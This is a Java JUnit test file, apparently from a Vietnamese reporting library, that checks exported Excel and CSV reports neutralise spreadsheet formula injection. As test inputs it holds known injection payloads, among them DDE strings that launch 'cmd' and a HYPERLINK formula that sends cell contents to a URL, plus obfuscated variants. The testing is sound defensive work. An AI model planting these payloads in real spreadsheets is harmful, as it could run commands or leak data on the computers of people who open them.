package vn.giaitrinh.report;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvRecord;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import vn.giaitrinh.report.option.CsvSeparator;
import vn.giaitrinh.report.option.ReportOptions;
import vn.giaitrinh.text.Language;

/** No text from outside is run by a spreadsheet, wherever it stands. */
class FormulaInjectionTest {
  private static final String SIGNS = "=+-@＝＋－＠\t\r";
  private static final ReportOptions OPTIONS = ReportOptions.of(Language.VI);

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"https://example.org/?x=\"&A1,\"xem\")",
        "+84-1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n\u00A0\u200B =1+1",
        "\u202E=1+1",
        "＝1+1",
        "－1＋1",
        "_x003D_1+1"
      })
  void in_every_place_for_text_a_formula_stays_text(String formula) {
    for (Sheet sheet : Spreadsheets.workbook(Samples.filledWith(formula), OPTIONS)) {
      for (Row row : sheet) {
        for (Cell cell : row) {
          assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
          if (cell.getCellType() == CellType.STRING) {
            assertHarmless(cell.getStringCellValue());
          }
        }
      }
    }
    for (CsvSeparator separator : CsvSeparator.values()) {
      ReportOptions options = OPTIONS.toBuilder().csvSeparator(separator).build();
      byte[] bytes = Spreadsheets.bytes(ReportFormat.CSV, Samples.filledWith(formula), options);
      List<CsvRecord> records = Spreadsheets.records(bytes, separator.character());
      assertThat(records).hasSizeGreaterThan(50);
      records.forEach(one -> one.getFields().forEach(FormulaInjectionTest::assertHarmless));
    }
  }

  @Test
  void no_formula_begins_where_a_spreadsheet_breaks_lines_at_another_sign() {
    String words = "hai phần;=1+1; @SUM(1),+2, một";
    String comma = Samples.render(ReportFormat.CSV, Samples.filledWith(words), OPTIONS);
    ReportOptions options = OPTIONS.toBuilder().csvSeparator(CsvSeparator.TAB).build();
    String tab = Samples.render(ReportFormat.CSV, Samples.filledWith(words), options);

    assertThat(comma).contains("hai phần;'=1+1; '@SUM(1),+2, một").doesNotContain(";=");
    assertThat(tab).contains("hai phần;'=1+1; '@SUM(1),'+2, một").doesNotContain(";=", ",+");
  }

  @Test
  void a_quote_before_a_formula_does_not_hide_it_from_another_sign() {
    String comma =
        Samples.render(ReportFormat.CSV, Samples.filledWith("x;\"=HYPERLINK(1);z"), OPTIONS);

    assertThat(comma).contains("x;\"\"'=HYPERLINK(1);z").doesNotContain("\"=HYPERLINK");
  }

  @Test
  void what_is_neutralised_can_still_be_read() {
    String report = Samples.render(ReportFormat.CSV, Samples.filledWith("=SUM(A1)"), OPTIONS);

    assertThat(report).contains("'=SUM(A1)").doesNotContain("''=");
  }

  private static void assertHarmless(String words) {
    String seen = words.strip();
    assertThat(seen.isEmpty() || SIGNS.indexOf(seen.charAt(0)) < 0).as(words).isTrue();
  }
}
